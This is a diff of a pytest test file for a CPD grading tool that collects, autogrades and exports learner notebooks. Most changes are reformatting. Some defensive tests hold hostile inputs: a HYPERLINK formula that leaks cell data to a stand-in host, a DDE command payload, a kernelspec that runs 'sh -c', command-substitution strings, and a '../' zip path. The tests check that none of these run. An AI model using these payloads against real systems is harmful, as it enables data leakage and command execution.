@@ -12,14 +12,27 @@ from pathlib import Path
 
 import pytest
 
-from gradebook_helpers import (
-    DOCTOR, FIXTURE_COURSE, MIXED, NURSE, PHYSIO, RIGHT, cell, cell_scores, db_rows, fixture_case,
-    make_submission, make_zip, released_course_dir, to_bytes, write_notebook,
-)
 from grader.cli import main
 from grader.content.loader import load_course
 from grader.gradebook.db import open_gradebook
 from grader.gradebook.submission import student_id
+from helpers.gradebook import (
+    DOCTOR,
+    FIXTURE_COURSE,
+    MIXED,
+    NURSE,
+    PHYSIO,
+    RIGHT,
+    cell,
+    cell_scores,
+    db_rows,
+    fixture_case,
+    make_submission,
+    make_zip,
+    released_course_dir,
+    to_bytes,
+    write_notebook,
+)
 
 CASE = fixture_case()
 NURSE_ID, DOCTOR_ID, PHYSIO_ID = (student_id(x["email"]) for x in (NURSE, DOCTOR, PHYSIO))
@@ -43,18 +56,47 @@ def gb(tmp_path) -> Path:
 def collect_three(tmp_path: Path, gb: Path) -> None:
     inbox = tmp_path / "in"
     write_notebook(inbox / "nurse.ipynb", make_submission(CASE, RIGHT, NURSE))
-    write_notebook(inbox / "doctor.ipynb", make_submission(CASE, MIXED, DOCTOR, submitted_at="2026-12-02T08:15:00+01:00"))
+    write_notebook(
+        inbox / "doctor.ipynb", make_submission(CASE, MIXED, DOCTOR, submitted_at="2026-12-02T08:15:00+01:00")
+    )
     write_notebook(inbox / "physio.ipynb", make_submission(CASE, {}, PHYSIO))
     assert run("collect", str(inbox), "--course-dir", str(gb)) == 0
 
 
 EXPECTED = {
     # every answer right; the dose question is not in a nurse's set
-    NURSE_ID: dict(profession="nurse", question_set="all except doctor/pharmacist questions", score="3", max="3", percent="100.0", passed="yes", needs_review="yes", cpd_minutes="15"),
+    NURSE_ID: dict(
+        profession="nurse",
+        question_set="all except doctor/pharmacist questions",
+        score="3",
+        max="3",
+        percent="100.0",
+        passed="yes",
+        needs_review="yes",
+        cpd_minutes="15",
+    ),
     # single 0 + dose 1 + consultation 0.5 + free text 0.5 (one rubric criterion of two)
-    DOCTOR_ID: dict(profession="doctor", question_set="all", score="2", max="4", percent="50.0", passed="no", needs_review="yes", cpd_minutes="0"),
+    DOCTOR_ID: dict(
+        profession="doctor",
+        question_set="all",
+        score="2",
+        max="4",
+        percent="50.0",
+        passed="no",
+        needs_review="yes",
+        cpd_minutes="0",
+    ),
     # nothing answered
-    PHYSIO_ID: dict(profession="physiotherapist", question_set="all except doctor/pharmacist questions", score="0", max="3", percent="0.0", passed="no", needs_review="no", cpd_minutes="0"),
+    PHYSIO_ID: dict(
+        profession="physiotherapist",
+        question_set="all except doctor/pharmacist questions",
+        score="0",
+        max="3",
+        percent="0.0",
+        passed="no",
+        needs_review="no",
+        cpd_minutes="0",
+    ),
 }
 
 
@@ -70,10 +112,29 @@ def test_round_trip(tmp_path, gb, capsys):
     for learner, expected in EXPECTED.items():
         assert {k: rows[learner][k] for k in expected} == expected, learner
     doctor = rows[DOCTOR_ID]
-    assert (doctor["name"], doctor["email"], doctor["registration"], doctor["case"]) == ("Dana Doctor", "dana.doctor@nhs.net", "GMC 7654321", "example-case")
+    assert (doctor["name"], doctor["email"], doctor["registration"], doctor["case"]) == (
+        "Dana Doctor",
+        "dana.doctor@nhs.net",
+        "GMC 7654321",
+        "example-case",
+    )
     assert doctor["submitted_at"] == "2026-12-02T07:15:00+00:00"
-    assert list(read_csv(out)[0]) == ["learner_id", "name", "email", "registration", "profession", "case", "question_set",
-                                     "score", "max", "percent", "passed", "needs_review", "submitted_at", "cpd_minutes"]
+    assert list(read_csv(out)[0]) == [
+        "learner_id",
+        "name",
+        "email",
+        "registration",
+        "profession",
+        "case",
+        "question_set",
+        "score",
+        "max",
+        "percent",
+        "passed",
+        "needs_review",
+        "submitted_at",
+        "cpd_minutes",
+    ]
 
 
 def test_gradebook_rows(tmp_path, gb):
@@ -81,7 +142,10 @@ def test_gradebook_rows(tmp_path, gb):
     assert run("autograde", "--course-dir", str(gb), "--quiet") == 0
     scores = cell_scores(gb / "gradebook.db")
     assert {c: s for (who, c), s in scores.items() if who == DOCTOR_ID} == {
-        "test-case-single": (0.0, 1.0), "test-case-dose": (1.0, 1.0), "test-case-talk": (0.5, 1.0), "test-case-reflect": (0.5, 1.0),
+        "test-case-single": (0.0, 1.0),
+        "test-case-dose": (1.0, 1.0),
+        "test-case-talk": (0.5, 1.0),
+        "test-case-reflect": (0.5, 1.0),
     }
     with open_gradebook(f"sqlite:///{gb}/gradebook.db") as book:
         student = book.find_student(DOCTOR_ID)
@@ -117,10 +181,12 @@ def test_autograde_without_release_creates_the_assignment(tmp_path, capsys):
 
     def structure(db):
         with sqlite3.connect(db) as conn:
-            return sorted(conn.execute(
-                "select bc.name, bc.type, sc.source, sc.checksum, sc.locked from base_cell bc "
-                "left join source_cell sc on sc.name = bc.name order by bc.name, bc.type"
-            ).fetchall())
+            return sorted(
+                conn.execute(
+                    "select bc.name, bc.type, sc.source, sc.checksum, sc.locked from base_cell bc "
+                    "left join source_cell sc on sc.name = bc.name order by bc.name, bc.type"
+                ).fetchall()
+            )
 
     assert structure(gb / "gradebook.db") == structure(released / "gradebook.db")
 
@@ -159,7 +225,9 @@ def test_a_newer_submission_is_graded_and_a_reviewed_score_flagged(tmp_path, gb)
         grade = book.find_grade("test-case-single", "example-case", "example-case", DOCTOR_ID)
         grade.manual_score, grade.needs_manual_grade = 0.0, False
         book.db.commit()
-    newer = write_notebook(tmp_path / "in2" / "doctor.ipynb", make_submission(CASE, RIGHT, DOCTOR, submitted_at="2026-12-03T10:00:00Z"))
+    newer = write_notebook(
+        tmp_path / "in2" / "doctor.ipynb", make_submission(CASE, RIGHT, DOCTOR, submitted_at="2026-12-03T10:00:00Z")
+    )
     assert run("collect", str(newer), "--course-dir", str(gb)) == 0
     assert run("autograde", "--course-dir", str(gb), "--quiet") == 0
     with open_gradebook(f"sqlite:///{gb}/gradebook.db") as book:
@@ -169,7 +237,12 @@ def test_a_newer_submission_is_graded_and_a_reviewed_score_flagged(tmp_path, gb)
 
 
 def test_export_neutralises_spreadsheet_formulas(tmp_path, gb):
-    attacker = {"name": "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "email": "=cmd@x.example", "registration": "+44 1 cmd|' /C calc'!A0", "profession": "other"}
+    attacker = {
+        "name": '=HYPERLINK("http://x.example/?"&A1,"click")',
+        "email": "=cmd@x.example",
+        "registration": "+44 1 cmd|' /C calc'!A0",
+        "profession": "other",
+    }
     others = [
         {"name": "-2+3", "email": "minus@x.example", "registration": "\t=1+1", "profession": "nurse"},
         {"name": "Zoë O'Brien, RN", "email": "zoe@x.example", "registration": "", "profession": "nurse"},
@@ -196,7 +269,10 @@ def test_export_to_stdout_and_ungraded_submissions(tmp_path, gb, capsys):
     capsys.readouterr()
     assert run("export", "--course-dir", str(gb), "--out", "-") == 1  # nothing graded yet
     captured = capsys.readouterr()
-    assert captured.out == "\ufefflearner_id,name,email,registration,profession,case,question_set,score,max,percent,passed,needs_review,submitted_at,cpd_minutes\r\n"
+    assert (
+        captured.out == "\ufefflearner_id,name,email,registration,profession,case,question_set,"
+        "score,max,percent,passed,needs_review,submitted_at,cpd_minutes\r\n"
+    )
     assert captured.err.count("not graded yet (run grader autograde first)") == 3
 
 
@@ -238,7 +314,9 @@ def canary_submissions(canary: Path) -> dict[str, bytes]:
     cell(nb, "test-case-single")["source"] = f"{py}\n1.0\n"
     add("test-cell.ipynb", nb)
     nb = make_submission(CASE, RIGHT, NURSE)
-    nb["cells"].insert(1, {"cell_type": "code", "metadata": {}, "source": py, "outputs": [], "execution_count": None, "id": "x"})
+    nb["cells"].insert(
+        1, {"cell_type": "code", "metadata": {}, "source": py, "outputs": [], "execution_count": None, "id": "x"}
+    )
     add("added-cell.ipynb", nb)
     nb = make_submission(CASE, RIGHT, NURSE)
     intro = cell(nb, "intro")
@@ -246,10 +324,19 @@ def canary_submissions(canary: Path) -> dict[str, bytes]:
     add("retyped-cell.ipynb", nb)
     # accepted: nothing here starts a kernel (and nbgrader's own autograde puts its kernelspec back)
     nb = make_submission(CASE, RIGHT, NURSE)
-    nb["metadata"]["kernelspec"] = {"name": "evil", "display_name": "x", "language": "python", "argv": ["sh", "-c", shell]}
+    nb["metadata"]["kernelspec"] = {
+        "name": "evil",
+        "display_name": "x",
+        "language": "python",
+        "argv": ["sh", "-c", shell],
+    }
     add("kernelspec.ipynb", nb)
     # accepted: plain values that merely look like code, in answers and learner details
-    nb = make_submission(CASE, {**RIGHT, "case-reflect": py, "case-single": f"$({shell})"}, {**PHYSIO, "name": f"$({shell})", "registration": "`touch CANARY`"})
+    nb = make_submission(
+        CASE,
+        {**RIGHT, "case-reflect": py, "case-single": f"$({shell})"},
+        {**PHYSIO, "name": f"$({shell})", "registration": "`touch CANARY`"},
+    )
     add("looks-like-code.ipynb", nb)
     return files
 
@@ -262,7 +349,10 @@ def test_canary_nothing_from_a_submission_runs(tmp_path, gb, monkeypatch):
     for name, data in files.items():
         (inbox / name).parent.mkdir(exist_ok=True)
         (inbox / name).write_bytes(data)
-    make_zip(tmp_path / "lms.zip", {f"$(touch {canary}).ipynb": files["answer-import.ipynb"], "../" + "x.ipynb": files["test-cell.ipynb"]})
+    make_zip(
+        tmp_path / "lms.zip",
+        {f"$(touch {canary}).ipynb": files["answer-import.ipynb"], "../" + "x.ipynb": files["test-cell.ipynb"]},
+    )
     main(["collect", str(inbox), str(tmp_path / "lms.zip"), "--root", str(FIXTURE_COURSE), "--course-dir", str(gb)])
     assert not canary.exists()
     accepted = {p.parent.parent.name for p in (gb / "submitted").rglob("*.ipynb")}
@@ -290,7 +380,11 @@ def test_one_learner_in_two_cases_is_one_student(tmp_path):
     assert set(cases) == {"example-case", "second-case"}
     inbox = tmp_path / "in"
     for case_id, case in cases.items():
-        ids = (lambda answers: answers) if case_id == "example-case" else (lambda answers: {k.replace("case-", "two-"): v for k, v in answers.items()})
+        ids = (
+            (lambda answers: answers)
+            if case_id == "example-case"
+            else (lambda answers: {k.replace("case-", "two-"): v for k, v in answers.items()})
+        )
         write_notebook(inbox / f"{case_id}-nurse.ipynb", make_submission(case, ids(RIGHT), NURSE))
         write_notebook(inbox / f"{case_id}-doctor.ipynb", make_submission(case, ids(MIXED), DOCTOR))
     gb = tmp_path / "gb"
@@ -303,7 +397,10 @@ def test_one_learner_in_two_cases_is_one_student(tmp_path):
     out = tmp_path / "grades.csv"
     assert main(["export", "--root", str(course), "--course-dir", str(gb), "--out", str(out)]) == 0
     assert sorted((r["case"], r["learner_id"], r["score"]) for r in read_csv(out)) == [
-        ("example-case", DOCTOR_ID, "2"), ("example-case", NURSE_ID, "3"), ("second-case", DOCTOR_ID, "2"), ("second-case", NURSE_ID, "3"),
+        ("example-case", DOCTOR_ID, "2"),
+        ("example-case", NURSE_ID, "3"),
+        ("second-case", DOCTOR_ID, "2"),
+        ("second-case", NURSE_ID, "3"),
     ]
 
 
@@ -333,14 +430,21 @@ def test_changed_questions_after_grading_are_a_clear_error(tmp_path, capsys):
     assert main(["autograde", "--root", str(course), "--course-dir", str(gb), "--quiet"]) == 0
     case_file = course / "case_studies" / "example-case" / "case.yml"
     extra = (
-        "      - id: case-extra\n        type: single\n        outcome: LO1\n        source: ng193\n        stem: One more?\n"
-        "        options:\n          - {id: a, text: Yes, feedback: Right.}\n          - {id: b, text: No, feedback: Wrong.}\n        answer: a\n"
+        "      - id: case-extra\n        type: single\n        outcome: LO1\n        source: ng193\n        stem: One "
+        "more?\n"
+        "        options:\n          - {id: a, text: Yes, feedback: Right.}\n          - "
+        "{id: b, text: No, feedback: Wrong.}\n        answer: a\n"
     )
     case_file.write_text(case_file.read_text().replace("facilitation:\n", extra + "facilitation:\n"))
     changed = load_course(course).case("example-case").case
-    write_notebook(tmp_path / "in2" / "new.ipynb", make_submission(changed, {**RIGHT, "case-extra": "a"}, PHYSIO, submitted_at="2026-12-05T10:00:00Z"))
+    write_notebook(
+        tmp_path / "in2" / "new.ipynb",
+        make_submission(changed, {**RIGHT, "case-extra": "a"}, PHYSIO, submitted_at="2026-12-05T10:00:00Z"),
+    )
     capsys.readouterr()
     assert main(["collect", str(tmp_path / "in2"), "--root", str(course), "--course-dir", str(gb)]) == 0
     assert main(["autograde", "--root", str(course), "--course-dir", str(gb), "--quiet"]) == 1
     out = capsys.readouterr().out
-    assert out.count("questions differ from the gradebook's and it already has graded submissions") == 3, "every submission of that case is skipped"
+    assert out.count("questions differ from the gradebook's and it already has graded submissions") == 3, (
+        "every submission of that case is skipped"
+    )
